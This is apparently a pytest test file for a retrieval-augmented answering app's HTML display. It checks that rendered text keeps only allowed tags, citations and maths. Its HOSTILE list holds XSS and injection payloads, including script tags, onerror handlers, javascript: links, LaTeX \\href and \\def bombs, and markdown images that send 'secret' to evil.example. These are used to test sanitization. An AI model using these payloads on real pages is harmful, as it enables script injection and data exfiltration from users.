"""Text from papers, models and readers as HTML: inert, complete, and marked where it is cited."""

from __future__ import annotations

import html
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rag import display
from rag.answering.events import CitationAdded, ClaimMade, Done, Notice
from rag.display import BLOCK_MATHS, INLINE_MATHS
from rag.page.answers import conversation
from rag.page.shelf import sources
from rag.page.turns import Turn
from rag.schema import Answer, Citation, Claim, Dropped, Nearest, Paper, Row, Sentence, Table
from rag.text import split_sentences

HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    '"><svg/onload=alert(1)>',
    "![](http://evil.example/?q=secret)",
    "![x][1]\n\n[1]: http://evil.example/",
    "[click](javascript:alert(1))",
    '<div style="position:fixed;inset:0;background:url(http://evil.example)">',
    "<form action=//evil.example><button>Go</button></form>",
    "```mermaid\ngraph TD; A[<img src=http://evil.example>]\n```",
    "<iframe src=//evil.example></iframe><base href=//evil.example><meta http-equiv=refresh>",
    r"$\href{javascript:alert(1)}{x}$ $\htmlData{a=b}{x}$ $\includegraphics{http://evil.example}$",
    r"$\def\x{\x\x}\x$ $\rule{900em}{900em}$ $x\\[900em]y$",
    "$" + r"\frac{" * 2000 + "}{1}" * 2000 + "$",
    "%%%LATEX_BLOCK_0%%% \ue000\\rule{9em}{9em}\ue001 \ue006 \ue008",
    "safe\u202etxt.exe\u200b\U000e0041\x1b[31m",
    "&lt;script&gt; &#60;b&#62;",
    "<!-- --!> <![CDATA[ <?php </p></section></div><mark>",
]
OUR_TAGS = {
    *("section", "h2", "h3", "p", "sup", "a", "span", "div", "article", "br"),
    *("mark", "details", "summary", "ul", "li", "strong", "em"),
    *("table", "tr", "th", "td", "button"),
}
OUR_ATTRIBUTES = {"class", "id", "title", "href", "type", "name", "value", "hidden", "tabindex"}
SHORT = [text for text in HOSTILE if len(text) < 300]
TEXTS = st.one_of(
    st.text(),
    st.lists(
        st.sampled_from(
            [*"<>&\"'$\\*_{}[]()%`!#:/ \n", "$$", r"\(", r"\)", "**", "a", "5", *SHORT]
        ),
        max_size=30,
    ).map("".join),
)


class Strict(HTMLParser):
    """Reads HTML and fails at any tag, attribute or address that display does not write."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.open: list[str] = []
        self.text = ""
        self.marked = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in OUR_TAGS
        for name, value in attrs:
            assert name in OUR_ATTRIBUTES
            assert name != "href" or re.fullmatch(
                r"#(?:source|nearest)-\d+-\d+|#turn-\d+", value or ""
            )
        if tag != "br":
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag

    def handle_data(self, data: str) -> None:
        self.text += data
        if "mark" in self.open:
            self.marked += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def read(made: str) -> Strict:
    reader = Strict()
    reader.feed(made)
    reader.close()
    assert not reader.open
    return reader


def paper(text: str, title: str = "A title") -> Paper:
    sentences = tuple(Sentence(text[a:b], a, b) for a, b in split_sentences(text))
    return Paper("p1", "folder/file.txt", 4, 0, text, title, True, sentences)


def turn_of(text: str) -> Turn:
    """A turn in which everything that can hold text holds `text`."""
    return Turn(1, text, failure=text, stopped=True).after(Done(answer_of(text)))


def answer_of(text: str) -> Answer:
    about = paper(text, text)
    citation = Citation(1, about, about.sentences[:1])
    return Answer(
        question=text,
        status="abstained",
        text=text,
        claims=(Claim(text, (1,), "partly"),),
        citations=(citation,),
        dropped=(Dropped(text, text),),
        nearest=(Nearest(about, 0.5),),
        manifest={"follow_up": {"text": f"{text} {text}"}},
        note=text,
    )


def test_a_table_shows_each_cell_with_its_citation() -> None:
    about = paper("Owls see at night.", "Owls")
    cell = Claim("at night", (1,), "supported")
    table = Table(("sight", "weight"), (Row(about, (cell, None)),))
    answer = replace(answer_of("Owls"), claims=(cell,), table=table)
    made = conversation([Turn(1, "Owls?").after(Done(answer))])
    assert "<tr><th>paper</th><th>sight</th><th>weight</th></tr>" in made
    assert '<td>at night<sup class="cites"><a href="#source-1-1">[1]</a></sup></td>' in made
    assert "<td>not stated</td>" in made
    assert '<p class="claim">' not in made
    read(made)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_table_is_inert(text: str) -> None:
    about = paper(text, text)
    cell = Claim(text, (1,), "partly")
    table = Table((text,), (Row(about, (cell,)), Row(about, (None,))))
    answer = replace(answer_of(text), table=table)
    read(conversation([Turn(1, text).after(Done(answer))]))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_inert_wherever_it_stands(text: str) -> None:
    turn = turn_of(text)
    for made in (conversation([turn]), sources([turn, turn])):
        read(made)
        for maths in re.findall("[\ue000\ue002](.*?)[\ue001\ue003]", html.unescape(made)):
            assert not re.search(r"\\(?:href|html|rule|def|include)|\\\\\[", maths)


@given(TEXTS)
def test_any_text_gives_only_our_tags(text: str) -> None:
    turn = turn_of(text)
    read(display.inline(text))
    read(conversation([turn]))
    read(sources([turn]))


@given(TEXTS)
def test_no_text_begins_a_block_of_markdown_or_forges_maths(text: str) -> None:
    made = display.inline(text)
    assert "\n" not in made
    assert "%" not in made
    maths = re.findall("\ue000[^\ue000-\ue003]+\ue001|\ue002[^\ue000-\ue003]+\ue003", made)
    assert sum(made.count(sign) for sign in (*INLINE_MATHS, *BLOCK_MATHS)) == 2 * len(maths)


def inline_maths(body: str) -> str:
    return f"{INLINE_MATHS[0]}{body}{INLINE_MATHS[1]}"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("for $x_1$ here", f"for {inline_maths('x_1')} here"),
        (r"for \(a \times b\)", f"for {inline_maths(chr(92).join(['a ', 'times b']))}"),
        ("$$a$$", f"{BLOCK_MATHS[0]}a{BLOCK_MATHS[1]}"),
        (r"\[a\]", f"{BLOCK_MATHS[0]}a{BLOCK_MATHS[1]}"),
        ("$a<b$", inline_maths("a&lt;b")),
        ("costs $5 and $10", "costs $5 and $10"),
        ("$5 million or $6 million", "$5 million or $6 million"),
        ("from $5-$10", "from $5-$10"),
        (r"a \$5 fee", "a $5 fee"),
        (r"12\% more", "12&#37; more"),
        ("*so* and **very**", "<em>so</em> and <strong>very</strong>"),
        ("_so_, snake_case_name", "<em>so</em>, snake_case_name"),
        (r"\textbf{deep} \emph{net}", "deep net"),
        ("a *b **c* d**", "a b c d"),
        ("two\n lines ", "two lines "),
        ("$12$ and $x$", f"{inline_maths('12')} and {inline_maths('x')}"),
    ],
)
def test_maths_money_and_emphasis(text: str, shown: str) -> None:
    assert display.inline(text) == shown


def test_the_cited_sentence_is_marked_at_its_offsets() -> None:
    text = "The same words. Gains of 3\\% at $O(n)$, *always*. The same words."
    about = paper(text)
    first, second, third = about.sentences

    def marked(*sentences: Sentence) -> str:
        return read(display.highlighted(text, sentences)).marked

    assert marked(third) == "The same words."
    assert display.highlighted(text, [third]).endswith("<mark>The same words.</mark>")
    assert marked(second) == f"Gains of 3% at {inline_maths('O(n)')}, always."
    assert marked(third, first) == "The same words.The same words."
    assert read(display.highlighted(text, [first, second, third])).text.startswith("The same")


def test_offsets_outside_the_text_mark_nothing() -> None:
    assert display.highlighted("Short.", [Sentence("x", 4, 90)]) == "Short."


def test_a_turn_grows_with_its_events() -> None:
    about = paper("One. Two.")
    claim = Claim("One.", (1,), "supported")
    turn = Turn(3, "What?")
    for event in (
        Notice("waiting"),
        CitationAdded(Citation(1, about, about.sentences[:1])),
        ClaimMade(claim),
        CitationAdded(Citation(1, about, about.sentences)),
    ):
        turn = turn.after(event)
    assert turn.claims == (claim,)
    assert turn.citations == (Citation(1, about, about.sentences),)
    assert 'href="#source-3-1"' in conversation([turn])
    assert 'id="source-3-1"' in sources([turn])


def test_an_abstention_shows_the_nearest_papers() -> None:
    turn = turn_of("The collection does not say.")
    assert 'href="#nearest-1-1"' in conversation([turn])
    assert 'id="nearest-1-1"' in sources([turn])


def test_what_was_left_out_is_told_with_its_reason() -> None:
    made = conversation([turn_of("x")])
    assert "<summary>1 claim left out</summary>" in made


def test_how_a_follow_up_was_understood_is_shown_under_it() -> None:
    made = conversation([turn_of("And ARC?")])
    assert '<p class="note">Understood as: And ARC? And ARC?</p>' in made
    assert "Understood as" not in conversation([Turn(1, "And ARC?")])


def test_earlier_sources_are_folded_under_the_last_ones() -> None:
    first = turn_of("first")
    made = sources([first, Turn(2, "second").after(Done(turn_of("x").answer))])  # type: ignore[arg-type]
    assert made.index('id="source-2-1"') < made.index("<details") < made.index('id="source-1-1"')


def test_a_long_conversation_says_what_is_gone() -> None:
    assert "4 earlier questions" in conversation([Turn(5, "What?")])
